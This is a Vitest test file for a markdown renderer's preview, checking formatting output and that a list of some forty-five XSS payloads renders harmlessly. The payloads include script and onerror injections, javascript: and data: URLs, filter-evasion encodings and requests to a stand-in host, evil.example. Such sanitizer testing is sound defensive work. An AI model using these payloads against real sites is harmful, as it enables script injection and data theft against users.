import { expect, test } from 'vitest';
import { renderMarkdown } from '../../src/lib/text/markdown.ts';

function html(text: string): string {
	const holder = document.createElement('div');
	holder.append(renderMarkdown(text));
	return holder.innerHTML.trim();
}

test.each([
	[
		'headings below those of the page',
		'# One\n\nTwo\n---',
		'<h3 class="level-1">One</h3>\n<h4 class="level-2">Two</h4>',
	],
	['emphasis', '*a* **b** ~~c~~ `d`', '<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>'],
	['lists', '3. a\n4. b', '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'],
	['quotations', '> a', '<blockquote>\n<p>a</p>\n</blockquote>'],
	[
		'tables',
		'|a|b|\n|:-:|-|\n|1|2|',
		'<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>',
	],
	['code without a language', '```\na < b\n```', '<pre><code>a &lt; b\n</code></pre>'],
	['code in one that is not known', '```nope\na\n```', '<pre><code>a\n</code></pre>'],
	[
		'code in one that is',
		'```py\nif x: pass  # 注释\n```',
		'<pre><code><span class="hljs-keyword">if</span> x: <span class="hljs-keyword">pass</span>  <span class="hljs-comment"># 注释</span>\n</code></pre>',
	],
	['Chinese', '**你好**，世界', '<p><strong>你好</strong>，世界</p>'],
	['HTML as text', 'a<br>b <b>c</b>', '<p>a&lt;br&gt;b &lt;b&gt;c&lt;/b&gt;</p>'],
	['what is not seen', 'a\u200bb', '<p>a<span class="invisible" data-sign="ZWSP">\u200b</span>b</p>'],
	['nothing', '', ''],
])('[PREVIEW-1] %s', (_, text, expected) => {
	expect(html(text)).toBe(expected);
});

const OUT = 'target="_blank" rel="noopener noreferrer nofollow"';
test.each([
	['[a](https://b.org/c?d=e&f)', `<p><a href="https://b.org/c?d=e&amp;f" ${OUT}>a</a></p>`],
	['https://b.org', `<p><a href="https://b.org" ${OUT}>https://b.org</a></p>`],
	['<mailto:a@b.org>', `<p><a href="mailto:a@b.org" ${OUT}>mailto:a@b.org</a></p>`],
	[
		'![a *b*](https://b.org/c.png "t")',
		`<p><a class="image" href="https://b.org/c.png" ${OUT}>a *b*</a></p>`,
	],
	[
		'![](https://b.org/c.png)',
		`<p><a class="image" href="https://b.org/c.png" ${OUT}>https://b.org/c.png</a></p>`,
	],
	['[a](/sign-out)', '<p>[a](/sign-out)</p>'],
	['[a](#turn-1)', '<p>[a](#turn-1)</p>'],
	['[a](//b.org)', '<p>[a](//b.org)</p>'],
])('[PREVIEW-2] %s leads outwards or nowhere, and an image is a link to it', (text, expected) => {
	expect(html(text)).toBe(expected);
});

/** Each as a line of its own, in a sentence, in code's info, in a link's parts and in an image's. */
const ATTACKS = [
	'<script>fetched(1)</script>',
	'<img src=x onerror=fetched(1)>',
	'<img src="https://evil.example/track.png">',
	'<svg onload=fetched(1)><image href="https://evil.example/x"/></svg>',
	'<svg><script>fetched(1)</script></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=fetched(1)>',
	'<style>@import "https://evil.example/x.css"; body { display: none }</style>',
	'<link rel=stylesheet href=https://evil.example/x.css>',
	'<form action=https://evil.example><input name=q><button>Go</button></form>',
	'<base href=https://evil.example/>',
	'<meta http-equiv=refresh content="0;url=https://evil.example">',
	'<iframe src="javascript:fetched(1)" srcdoc="<script>fetched(1)</script>"></iframe>',
	'<object data=https://evil.example></object><embed src=https://evil.example>',
	'<video poster=https://evil.example/x><source src=x onerror=fetched(1)></video>',
	'<a href="javascript:fetched(1)" onclick=fetched(1)>x</a>',
	'<a id=workspace name=getElementById href=x>x</a><form id=body><input name=children></form>',
	'<p style="background:url(https://evil.example/x)">x</p>',
	'<details open ontoggle=fetched(1)><dialog open>x</dialog></details>',
	'<noscript><p title="</noscript><img src=x onerror=fetched(1)>">',
	'<!--<img src="--><img src=x onerror=fetched(1)>">',
	'<template><img src=x onerror=fetched(1)></template>',
	'[x](javascript:fetched(1))',
	'[x](JaVaScRiPt:fetched(1))',
	'[x](java&#115;cript:fetched(1))',
	'[x](java\u0000script:fetched(1))',
	'[x](&#x6A;avascript:fetched(1))',
	'[x](\u0001javascript:fetched(1))',
	'[x](vbscript:fetched(1))',
	'[x](data:text/html;base64,PHNjcmlwdD5mZXRjaGVkKDEpPC9zY3JpcHQ+)',
	'[x](blob:https://evil.example/1)',
	'[x](file:///etc/passwd)',
	'![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ZmV0Y2hlZCgxKT4=)',
	'![x](data:image/png;base64,AAAA)',
	'![x](https://evil.example/track.png)',
	'![x" onerror="fetched(1)](https://evil.example/"onerror="fetched(1).png)',
	'[x](https://evil.example "x\\" onmouseover=\\"fetched(1)")',
	'[x]: javascript:fetched(1)\n\n[x] [y][x]',
	'<javascript:fetched(1)>',
	'https://evil.example/"onmouseover="fetched(1)',
	'```"><img src=x onerror=fetched(1)>\n<img src=x onerror=fetched(1)>\n```',
	'```html\n<img src=x onerror=fetched(1)><script>fetched(1)</script>\n```',
	'`<img src=x onerror=fetched(1)>`',
	'| <img src=x onerror=fetched(1)> |\n|-|\n| <svg onload=fetched(1)> |',
	'&lt;img src=x onerror=fetched(1)&gt;',
	'&#60;script&#62;fetched(1)&#60;/script&#62;',
];

const TAGS = new Set(
	'P BR HR H3 H4 H5 H6 BLOCKQUOTE UL OL LI PRE CODE SPAN STRONG EM S A TABLE THEAD TBODY TR TH TD'.split(' '),
);

test.each([...ATTACKS, ATTACKS.join('\n\n'), ...ATTACKS.map((one) => `> - **${one}**\n\n${one}`)])(
	'[PREVIEW-3] harmless: %s',
	async (attack) => {
		let fetched = 0;
		Object.assign(globalThis, { fetched: () => (fetched += 1) });
		performance.clearResourceTimings();
		const holder = document.createElement('div');
		document.body.append(holder);
		holder.append(renderMarkdown(attack));
		const all = [...holder.querySelectorAll('*')];
		expect(all.filter(({ tagName }) => !TAGS.has(tagName)).map(({ outerHTML }) => outerHTML)).toEqual([]);
		for (const element of all)
			for (const { name, value } of element.attributes) {
				expect(['class', 'href', 'target', 'rel', 'start', 'data-sign']).toContain(name);
				if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
				if (name === 'class')
					expect(value).toMatch(/^(?:image|invisible|level-\d|language-[a-z]+|hljs-[-\w ]+)$/);
			}
		for (const link of holder.querySelectorAll('a')) {
			expect(link.rel).toBe('noopener noreferrer nofollow');
			expect(link.target).toBe('_blank');
			link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
		}
		await new Promise((resolve) => setTimeout(resolve)); // errors of images come late
		expect(fetched).toBe(0);
		const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
		expect(loaded.filter((name) => name.includes('evil.example'))).toEqual([]);
		holder.remove();
	},
);
